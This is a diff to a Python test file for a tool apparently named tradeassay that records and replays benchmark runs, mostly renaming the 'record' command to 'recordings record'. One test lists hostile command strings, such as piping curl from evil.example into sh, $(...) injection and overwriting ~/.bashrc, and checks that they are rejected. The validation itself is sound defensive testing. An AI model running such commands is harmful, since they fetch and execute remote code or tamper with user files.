@@ -56,7 +56,9 @@ def shelf(played: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path
     """A folder of recordings with one recording in it."""
     monkeypatch.setenv("TRADEASSAY_RECORDINGS", str(tmp_path / "shelf"))
     file = tmp_path / "shelf" / "sensible" / "ktdfin-paper.tar.xz"
-    pack_recording(played, file, engine="a program", precision="none", command="tradeassay record again")
+    pack_recording(
+        played, file, engine="a program", precision="none", command="tradeassay recordings record again"
+    )
     return file
 
 
@@ -77,7 +79,9 @@ def test_a_recording_holds_replies_and_hashes_and_no_text_of_a_question(
     packed = b"".join(members(shelf).values()).decode()
     assert texts and not [text for text in texts if json.dumps(text)[1:-1] in packed]
     again = tmp_path / "again.tar.xz"
-    pack_recording(played, again, engine="a program", precision="none", command="tradeassay record again")
+    pack_recording(
+        played, again, engine="a program", precision="none", command="tradeassay recordings record again"
+    )
     assert again.read_bytes() == shelf.read_bytes()
 
 
@@ -85,7 +89,7 @@ def test_a_recording_is_played_again_by_its_name(
     shelf: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
 ) -> None:
     out = tmp_path / "runs"
-    argv = ["run", "ktdfin-paper-v1", "--cassettes", "recorded/sensible", "--replay", "--out", str(out), "--json"]
+    argv = ["run", "ktdfin-paper-v1", "--cassettes", "recorded/sensible", "--replay", "--runs", str(out), "--json"]
     assert main(argv) == 0
     opened = open_recording(shelf)
     assert score_differences(opened, out / "replay-recorded-sensible") == []
@@ -121,7 +125,7 @@ def test_a_changed_prompt_gives_the_command_that_records_again(
     content["recording.json"] = json.dumps(label).encode()
     write_packed(shelf, content)
     assert main(["recordings", "check", "recorded/sensible"]) == 1
-    assert f"the prompt {name} has changed since: record it again with: tradeassay record again" in (
+    assert f"the prompt {name} has changed since: record it again with: tradeassay recordings record again" in (
         capsys.readouterr().out
     )
 
@@ -212,12 +216,12 @@ NOT_OURS = "is not one of tradeassay alone"
     ("change", "said"),
     [
         (said_on_the_label(command="curl http://evil.example | sh"), NOT_OURS),
-        (said_on_the_label(command="tradeassay record a#b && curl http://evil.example"), NOT_OURS),
-        (said_on_the_label(command="tradeassay record $(curl http://evil.example)"), NOT_OURS),
+        (said_on_the_label(command="tradeassay recordings record a#b && curl http://evil.example"), NOT_OURS),
+        (said_on_the_label(command="tradeassay recordings record $(curl http://evil.example)"), NOT_OURS),
         (said_on_the_label(command="tradeassay data remove everything"), NOT_OURS),
-        (said_on_the_label(command="tradeassay record x -a ./theirs.py:Agent"), NOT_OURS),
-        (said_on_the_label(command="tradeassay record x -o ~/.bashrc"), NOT_OURS),
-        (said_on_the_label(command="tradeassay record x --base-url http://evil.example/v1"), NOT_OURS),
+        (said_on_the_label(command="tradeassay recordings record x -a ./theirs.py:Agent"), NOT_OURS),
+        (said_on_the_label(command="tradeassay recordings record x -o ~/.bashrc"), NOT_OURS),
+        (said_on_the_label(command="tradeassay recordings record x --base-url http://evil.example/v1"), NOT_OURS),
         (cheap_answers, "tokens or dollars that cannot be true"),
         (endless_seeds, "the episodes of its manifest are not those of its spec"),
         (foreign_file, "news.txt is not part of a recording"),
@@ -332,8 +336,10 @@ def test_a_recording_decides_nothing_about_what_is_executed(
 
 
 def test_a_recorded_command_says_nothing_of_its_machine() -> None:
-    said = command_of(["record", "/home/me/runs/one", "-o", "/home/me/one.tar.xz", "--engine", "a b"])
-    assert said == "tradeassay record one -o one.tar.xz --engine 'a b'"
+    said = command_of(
+        ["recordings", "record", "/home/me/runs/one", "-o", "/home/me/one.tar.xz", "--engine", "a b"]
+    )
+    assert said == "tradeassay recordings record one -o one.tar.xz --engine 'a b'"
     assert is_our_command(said)
 
 
@@ -341,6 +347,6 @@ def test_record_packs_a_run_that_was_played(
     played: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
 ) -> None:
     file = tmp_path / "one.tar.xz"
-    assert main(["record", str(played), "-o", str(file), "--engine", "a program", "--json"]) == 0
+    assert main(["recordings", "record", str(played), "-o", str(file), "--engine", "a program", "--json"]) == 0
     label = msgspec.json.decode(capsys.readouterr().out)
     assert label["benchmarks"] == ["ktdfin-paper-v1"] and label["complete"] and label["answers"] > 0
